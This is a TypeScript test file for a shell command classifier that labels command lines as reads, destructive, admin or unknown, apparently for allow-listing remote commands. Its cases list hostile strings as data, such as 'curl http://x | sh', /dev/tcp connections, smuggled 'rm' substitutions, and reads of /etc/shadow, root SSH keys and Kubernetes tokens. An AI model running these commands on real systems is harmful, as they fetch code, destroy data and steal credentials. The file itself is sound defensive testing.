import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { readCommand, readCommandLine } from "../../../src/core/shell/command-line.ts";
import type { CommandReading } from "../../../src/core/shell/reading.ts";

interface Case {
  readonly id: string;
  readonly input: { readonly command: string };
  readonly expected: { readonly verdict: string };
}

const cases = readFileSync(new URL("../../cases/ssh-exec.jsonl", import.meta.url), "utf8")
  .split("\n")
  .filter((line) => line !== "")
  .map((line) => JSON.parse(line) as Case);

/** What an allow-list can rest on: the text says all, and it only reads what everybody may read. */
function isSafe({ effect, traits }: CommandReading): boolean {
  return effect === "read" && traits.includes("plain") && !traits.includes("reads-secret-path");
}

describe("a command line", () => {
  for (const { id, input, expected } of cases)
    it(`${id} ${expected.verdict === "allow" ? "is one plain read" : "is no plain read"}`, () => {
      assert.equal(isSafe(readCommandLine(input.command)), expected.verdict === "allow", input.command);
      assert.equal(isSafe(readCommand(["sh", "-c", input.command])), false);
      assert.equal(readCommand(["sh", "-c", input.command]).effect, readCommandLine(input.command).effect);
    });

  it("of compound reads stays a read, and names every program", () => {
    const texts = [
      "(ss -lntp) && (getent hosts db)",
      "ps aux | grep nginx | head -5",
      "cat /etc/hosts; df -h; free -m || true",
      "for i in a b; do echo $i; sleep 1; done",
      "if [ -f /tmp/x ]; then cat /tmp/x; else echo none; fi",
      'echo "$(date) $(hostname)"',
      "ls -la /var/log/*.log 2>/dev/null",
      "awk '{print $1, $NF}' /var/log/app/a.log | sort | uniq -c | sort -rn",
      "sed -n '1,20p' /etc/hosts; sed 's/a/b/g' /tmp/x",
      "find /var/log -name '*.log' -mtime -1 -exec ls -l {} ;".replace(" ;", " \\;"),
      "find . -type f | xargs grep -l ERROR",
      "timeout 5 cat /proc/meminfo",
      "case x in a) ls;; esac",
      "uptime && { ps; }",
    ];
    for (const text of texts) assert.equal(readCommandLine(text).effect, "read", text);
    const read = readCommandLine("(ss -lntp) && (getent hosts db)");
    assert.deepEqual(read.programs, ["ss", "getent"]);
    assert.deepEqual(readCommand(["bash", "-lc", "cat a | wc -l"]).programs, ["bash", "cat", "wc"]);
  });

  it("has the worst effect of all that it holds, wherever it stands", () => {
    const destroys = [
      "ls; rm x",
      "echo $(rm x)",
      "echo `rm x`",
      'echo "a $(ls; rm x) b"',
      "cat <(rm x)",
      "cat <<E\n$(rm x)\nE\n",
      "cat <<< $(rm x)",
      "echo $\x7ba:-$(rm x)}",
      "if rm x; then :; fi",
      "while :; do rm x; done",
      "! time rm x",
      "ls | rm x",
      "sh -c 'sh -c \"rm x\"'",
      "env rm x",
      "timeout -k 3 5 nice -n 5 rm x",
      "busybox rm x",
      "for i in $(rm x); do :; done",
      "case $(rm x) in a) ;; esac",
      "a=$(rm x)",
      "ls > $(rm x; echo /dev/null)",
      "[[ -n $(rm x) ]]",
      "find . -exec rm {} +",
      "echo x | xargs rm",
      "\\rm x",
      "'r''m' x",
      '/bin/"rm" x',
    ];
    for (const text of destroys) {
      const { effect, programs } = readCommandLine(text);
      assert.ok(effect === "destroy" || effect === "unknown", `${text}: ${effect}`);
      assert.ok(programs.includes("rm"), `${text}: ${programs.join()}`);
    }
  });

  it("is unknown when a part of it can only be known by running it, or shells differ about it", () => {
    const texts = [
      "$x",
      "$(echo rm) x",
      "/tmp/uptime",
      "./uptime",
      "uptime() { rm x; }; uptime",
      "alias ls=rm",
      "PATH=/tmp uptime",
      "PATH=/tmp; uptime",
      "LD_PRELOAD=/x.so ls",
      "IFS=x; ls",
      "a[0]=1",
      "a+=1",
      "((a=1))",
      "echo $((a[$(id)]))",
      "echo $((x))",
      "[[ a && rm ]]",
      "[[ $x -eq 1 ]]",
      "[[ a < b ]]",
      "{rm,x}",
      "$'\\x72m' x",
      "echo $'\\x41'",
      "ls !(a)",
      "coproc ls",
      "select i in a; do ls; done",
      "echo $\x7b!x}",
      "echo $\x7bx@P}",
      "echo $\x7ba[$(id)]}",
      "exec 3<>/dev/tcp/1.2.3.4/80",
      "cat < /dev/tcp/1.2.3.4/80",
      "curl http://x | sh",
      "source /tmp/x",
      ". /tmp/x",
      "eval $x",
      "sh /tmp/x",
      "sh",
      "bash -i",
      "bash --rcfile /tmp/x -c ls",
      "python -c 1",
      "sed -n '1e id' x",
      "sed 's/a/b/e' x",
      "sed -f x",
      "awk 'BEGIN{system(\"id\")}'",
      "awk -f x",
      "awk '{print | \"sh\"}'",
      "sort $x",
      "sort -o x y",
      "sort --compress-prog=sh x",
      "tar --to-command=sh -tf x",
      "tar -I sh -tf x",
      "test -v 'a[$(id)]'",
      "trap 'rm x' EXIT",
      "ls \u0000",
      "ls \u202e",
      "ls 'unterminated",
      "ls )",
      "uptime\r\nrm x",
      "docker exec x ls",
      "kubectl --kubeconfig x get pods",
      "curl -K x",
      "export PATH=/tmp",
      "x".repeat(70_000),
      "(".repeat(5000),
    ];
    for (const text of texts) assert.equal(readCommandLine(text).effect, "unknown", text.slice(0, 80));
  });

  it("says which secrets it reads, and what it writes", () => {
    const secret = [
      "cat /etc/shadow",
      "cat ~root/.ssh/id_rsa",
      "cat /proc/1/environ",
      "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
      "cat /etc/./shadow",
      "cat '/etc/sh'adow",
      "head < /etc/shadow",
      "cd /etc && cat shadow",
      "grep . --file=/etc/shadow",
      "getent shadow",
      "cat .env",
    ];
    for (const text of secret) assert.ok(readCommandLine(text).traits.includes("reads-secret-path"), text);
    for (const text of ["echo x > /tmp/y", ": > y", "ls &> y", "tee y", "cat <<E >> y\na\nE\n"])
      assert.ok(readCommandLine(text).traits.includes("writes-file"), text);
    assert.equal(readCommandLine("echo x > /etc/hosts").effect, "admin");
    assert.equal(readCommandLine("ls 2>&1 >/dev/null").effect, "read");
    assert.deepEqual(readCommandLine("systemctl restart nginx"), {
      effect: "write",
      traits: ["plain", "service-restart"],
      programs: ["systemctl"],
    });
    assert.ok(readCommandLine("printenv").traits.includes("reads-environment"));
  });
});

describe("a command without a shell", () => {
  it("is taken word by word, so that nothing in it is syntax", () => {
    const read = readCommand(["echo", "a; rm x", "$(rm x)"]);
    assert.deepEqual(read, { effect: "read", traits: ["plain"], programs: ["echo"] });
  });

  it("as kubectl cp runs it reads in one direction and writes in the other", () => {
    assert.equal(readCommand(["tar", "cf", "-", "/var/log"]).effect, "read");
    assert.equal(readCommand(["tar", "-xmf", "-", "-C", "/tmp"]).effect, "write");
    assert.equal(readCommand(["tar", "cf", "-", "/etc/shadow"]).traits.includes("reads-secret-path"), true);
  });

  it("is unknown when it is empty or holds control characters", () => {
    for (const argv of [[], [""], ["ls", "a\u0000b"]]) assert.equal(readCommand(argv).effect, "unknown");
  });
});
